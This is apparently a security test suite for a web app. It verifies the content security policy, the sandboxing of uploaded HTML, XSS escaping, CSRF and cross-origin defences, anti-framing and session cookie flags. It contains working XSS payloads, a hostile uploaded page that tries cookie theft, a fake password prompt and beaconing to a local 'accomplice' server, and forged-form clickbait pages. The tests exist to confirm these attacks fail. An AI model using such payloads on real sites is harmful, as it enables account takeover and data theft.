import { createServer, type Server } from 'node:http'
import type { Frame } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { accepted, PRODUCT_TYPE, registered } from '../support/products.ts'
import type { Remote } from '../support/remote.ts'
import { PASSWORD, type Site, startSite } from './site.ts'
import type { Visitor } from './visitor.ts'

let site: Site
let alice: Remote
let victim: Visitor

beforeAll(async () => {
  site = await startSite()
  alice = await site.addPerson('alice', 'Alice Liddell')
  victim = await site.visitor()
  await victim.signIn('alice', PASSWORD)
})
afterAll(() => site?.close())

describe('the watch over the pages', () => {
  it('notices an inline script, an inline style and a script from elsewhere', async () => {
    const visitor = await site.visitor()
    await visitor.open('/sign-in')
    await visitor.page.evaluate(`{
      const add = (name, set) => document.body.append(Object.assign(document.createElement(name), set))
      add('script', { textContent: 'globalThis.ran = true' })
      add('style', { textContent: 'body { color: red }' })
      add('script', { src: 'http://127.0.0.2:1/x.js' })
      document.body.setAttribute('style', 'color: red')
    }`)
    await expect
      .poll(() => visitor.complaints.filter((text) => text.includes('security policy')).join('\n'))
      .toMatch(
        /script-src-elem inline[\s\S]*style-src-elem inline[\s\S]*script-src-elem http[\s\S]*style-src-attr inline/,
      )
    expect(await visitor.page.evaluate('globalThis.ran')).toBeUndefined()
  })
})

describe('an uploaded page', () => {
  let product: string
  let sha256: string
  /** A server that waits for what the page sends home. */
  let accomplice: Server
  let accompliceUrl: string
  const stolen: string[] = []
  /** What our server answered to the page. */
  const answered: string[] = []

  beforeAll(async () => {
    accomplice = createServer((request, response) => {
      stolen.push(request.url ?? '')
      response.setHeader('access-control-allow-origin', '*').end()
    })
    accompliceUrl = await listening(accomplice, '127.0.0.1')
    product = await productWith('A page that attacks', 'notes.html', attack(site.url, accompliceUrl))
  })
  afterAll(() => new Promise((resolve) => accomplice.close(resolve)))

  /** What the attack could do, as it wrote it down itself. */
  const outcome = async (frame: Frame): Promise<Record<string, string>> => {
    await frame.locator('#outcome[data-complete]').waitFor()
    return JSON.parse((await frame.locator('#outcome').textContent()) ?? '{}')
  }

  it('runs its own script in the sandbox, and can do nothing with it', async () => {
    const { page } = victim
    const pages: string[] = []
    victim.context.on('page', (popup) => pages.push(popup.url()))
    page.on('response', (response) => {
      if (response.frame() !== page.mainFrame()) answered.push(new URL(response.url()).pathname)
    })
    await victim.open(`${product}?tab=description`)
    await page.locator('iframe.sandbox').scrollIntoViewIfNeeded()
    const sandboxed = () => page.frames().find((each) => each.url().includes('/raw/'))
    await expect.poll(sandboxed).toBeDefined()
    const frame = sandboxed()!
    sha256 = /raw\/([0-9a-f]{64})/.exec(frame.url())?.[1] ?? ''
    expect(await outcome(frame)).toEqual({
      origin: 'null',
      cookie: expect.stringMatching(/^SecurityError/),
      storage: expect.stringMatching(/^SecurityError/),
      parent: expect.stringMatching(/^SecurityError/),
      topNavigation: expect.stringMatching(/^SecurityError/),
      apiRead: expect.stringMatching(/^TypeError/),
      apiWrite: expect.stringMatching(/^TypeError/),
      popup: 'null',
      foreignScript: 'blocked',
      beacon: 'blocked',
      message: 'TypeError',
      dialog: 'false',
    })
    // A frame of our site within it, and a form that it sends, came to nothing.
    expect(page.frames().filter((each) => each.url().startsWith(site.url)).length).toBe(2)
    expect(answered).toEqual([`/raw/${sha256}`])
    expect(stolen).toEqual([])
    expect(new URL(page.url()).pathname).toBe(product)
    expect(pages).toEqual([])
    expect(await namesOf(alice)).not.toContain('made by the attack')
  })

  it('is no more when it is opened by itself', async () => {
    await victim.open(`/raw/${sha256}`)
    const { page } = victim
    expect(await outcome(page.mainFrame())).toMatchObject({
      origin: 'null',
      cookie: expect.stringMatching(/^SecurityError/),
      apiRead: expect.stringMatching(/^TypeError/),
      apiWrite: expect.stringMatching(/^TypeError/),
      popup: 'null',
    })
    expect(await namesOf(alice)).not.toContain('made by the attack')
  })

  it('is downloaded, not shown, by the link to the file', async () => {
    await victim.open(product)
    const { name } = await victim.download(() =>
      victim.page.locator('ul.files').getByRole('link', { name: 'notes.html' }).click(),
    )
    expect(name).toBe('notes.html')
  })
})

describe('texts that people write', () => {
  it('stay texts, wherever they are shown', async () => {
    const evil = `"><img src=x onerror="globalThis.hacked=1"><script>globalThis.hacked=1</script>`
    const id = await registered(alice, {
      display_name: evil,
      product_type: PRODUCT_TYPE.other,
      description: `${evil}\n\n[press](javascript:globalThis.hacked=1) <svg onload="globalThis.hacked=1"/>`,
    })
    const csv = `"<img src=x onerror=globalThis.hacked=1>","</script><script>globalThis.hacked=1</script>"\n1,<b>2</b>\n`
    accepted(await alice.upload(id, `<img src=x onerror=globalThis.hacked=1>.csv`, csv))
    accepted(await alice.patch(`/api/products/${id}/`, { status: '1' }))
    await victim.open(`/product/${id}`)
    const path = new URL(victim.page.url()).pathname
    for (const place of [
      path,
      `${path}?tab=columns`,
      `${path}?tab=history`,
      `${path}/edit`,
      `/products?search=${encodeURIComponent(evil)}`,
      '/my_products',
    ]) {
      await victim.open(place)
      expect(await victim.page.evaluate('globalThis.hacked'), place).toBeUndefined()
      expect(
        await victim.page.locator('a[href^="javascript:" i], main img[src=x], [onerror], [onload]').count(),
        place,
      ).toBe(0)
    }
  })
})

describe('another site', () => {
  let other: Server
  let port: string
  let product: number
  /** Host of the page, as the browser sees it: `localhost` is another site than 127.0.0.1, another port another origin. */
  const hosts = ['localhost', '127.0.0.1']

  beforeAll(async () => {
    product = await registered(alice, { display_name: 'Untouched', product_type: PRODUCT_TYPE.other })
    other = createServer((request, response) => {
      response.setHeader('content-type', 'text/html; charset=utf-8')
      response.end(request.url === '/frame' ? framing(site.url) : posting(site.url, product))
    })
    port = new URL(await listening(other)).port
  })
  afterAll(() => new Promise((resolve) => other.close(resolve)))

  it.each(hosts)('cannot post a form in a visitor’s name from %s', async (host) => {
    const { page } = victim
    for (const form of ['delete', 'create', 'sign-out']) {
      await page.goto(`http://${host}:${port}/post`)
      const [answer] = await Promise.all([
        page.waitForResponse((response) => response.url().startsWith(site.url)),
        page.locator(`#${form} button`).click(),
      ])
      expect(answer.status(), form).toBe(403)
    }
    expect(await namesOf(alice)).toContain('Untouched')
    expect(await namesOf(alice)).not.toContain('made by the attack')
    await victim.open('/account')
    expect(new URL(page.url()).pathname).toBe('/account')
  })

  it.each(hosts)('cannot post or read with a script from %s', async (host) => {
    const { page } = victim
    await page.goto(`http://${host}:${port}/post`)
    const outcome = await page.evaluate(`(async () => {
      const tell = (promise) => promise.then((answer) => answer.type + ' ' + answer.status, (error) => error.name)
      const body = JSON.stringify({ display_name: 'made by the attack', product_type: 7 })
      const api = ${JSON.stringify(site.url)} + '/api/products/'
      return [
        await tell(fetch(api, { credentials: 'include' })),
        await tell(fetch(api, { credentials: 'include', method: 'POST', body, mode: 'no-cors' })),
        await tell(fetch(api, { credentials: 'include', method: 'POST', body, headers: { 'content-type': 'application/json' } })),
      ]
    })()`)
    expect(outcome).toEqual(['TypeError', expect.stringMatching(/^(opaque 0|TypeError)$/), 'TypeError'])
    expect(await namesOf(alice)).not.toContain('made by the attack')
  })

  it.each(hosts)('cannot put our pages into a frame on %s', async (host) => {
    const { page } = victim
    await page.goto(`http://${host}:${port}/frame`)
    await expect.poll(() => page.frames().length).toBe(3)
    for (const frame of page.frames().slice(1)) {
      await expect.poll(() => frame.url()).toMatch(/^chrome-error:/)
    }
  })
})

describe('the session', () => {
  it('is kept in a cookie that scripts cannot read and other sites cannot send along', async () => {
    const cookies = (await victim.context.cookies(site.url)).filter(({ name }) => name !== 'pz_flash')
    expect(cookies).toEqual([expect.objectContaining({ httpOnly: true, sameSite: 'Lax', path: '/' })])
    await victim.open('/')
    expect(await victim.page.evaluate('document.cookie')).toBe('')
  })
})

/** A published product with one description file. @returns the path of its page */
async function productWith(name: string, fileName: string, content: string): Promise<string> {
  const id = await registered(alice, { display_name: name, product_type: PRODUCT_TYPE.other })
  accepted(await alice.upload(id, 'data.txt', 'nothing'))
  accepted(await alice.upload(id, fileName, content, { role: 1 }))
  accepted(await alice.patch(`/api/products/${id}/`, { status: '1' }))
  const { internal_name: internalName } = accepted(await alice.get(`/api/products/${id}/`))
  return `/product/${internalName}`
}

/** @returns the server's address */
async function listening(server: Server, host?: string): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  const address = server.address()
  if (address === null || typeof address === 'string') throw new Error('It listens on no port')
  return `http://127.0.0.1:${address.port}`
}

/** Names of the person's products, drafts included. */
async function namesOf(person: Remote): Promise<readonly string[]> {
  const { results } = accepted(await person.get('/my_products.json'))
  return results.map((product: { display_name: string }) => product.display_name)
}

/** Tries everything that a page could do to its reader, and writes down what came of it. */
const attack = (url: string, accomplice: string): string => `<!doctype html><meta charset="utf-8"><title>Attack</title>
<pre id="outcome"></pre>
<form id="form" method="post" action="${url}/sign-out" target="_top"></form>
<script>
const outcome = { origin: String(self.origin) }
const attempt = (name, act) => { try { outcome[name] = String(act()) } catch (error) { outcome[name] = error.name + ': ' + error.message } }
const later = (name, promise) => promise.then((value) => { outcome[name] = value }, (error) => { outcome[name] = error.name })
attempt('cookie', () => document.cookie)
attempt('storage', () => localStorage.length)
if (top !== self) {
  attempt('parent', () => parent.document.title)
  attempt('topNavigation', () => { top.location.href = '${url}/sign-in' })
  attempt('dialog', () => confirm('Your password?'))
}
attempt('popup', () => window.open('${url}/account'))
const add = (name, set) => new Promise((resolve) => {
  const element = Object.assign(document.createElement(name), set)
  element.onload = () => resolve('loaded')
  element.onerror = () => resolve('blocked')
  document.body.append(element)
})
document.getElementById('form').submit()
add('iframe', { src: '${url}/' })
Promise.all([
  later('apiRead', fetch('${url}/api/products/', { credentials: 'include' }).then((answer) => answer.text())),
  later('apiWrite', fetch('${url}/api/products/', { method: 'POST', mode: 'no-cors', credentials: 'include',
    body: JSON.stringify({ display_name: 'made by the attack', product_type: 7 }) }).then(() => 'sent')),
  later('foreignScript', add('script', { src: '${url}/static/site.js' })),
  later('beacon', add('img', { src: '${accomplice}/?stolen' })),
  later('message', fetch('${accomplice}/?stolen').then(() => 'sent')),
]).then(() => {
  const element = document.getElementById('outcome')
  element.textContent = JSON.stringify(outcome)
  element.dataset.complete = ''
})
</script>`

const posting = (url: string, product: number): string => `<!doctype html><title>Another site</title>
<form id="delete" method="post" action="${url}/product/${product}/delete"><button>Win a prize</button></form>
<form id="create" method="post" action="${url}/product/new">
  <input name="displayName" value="made by the attack"><input name="type" value="other"><button>Win</button></form>
<form id="sign-out" method="post" action="${url}/sign-out"><button>Win</button></form>`

const framing = (url: string): string => `<!doctype html><title>Another site</title>
<iframe src="${url}/"></iframe><iframe src="${url}/account"></iframe>`
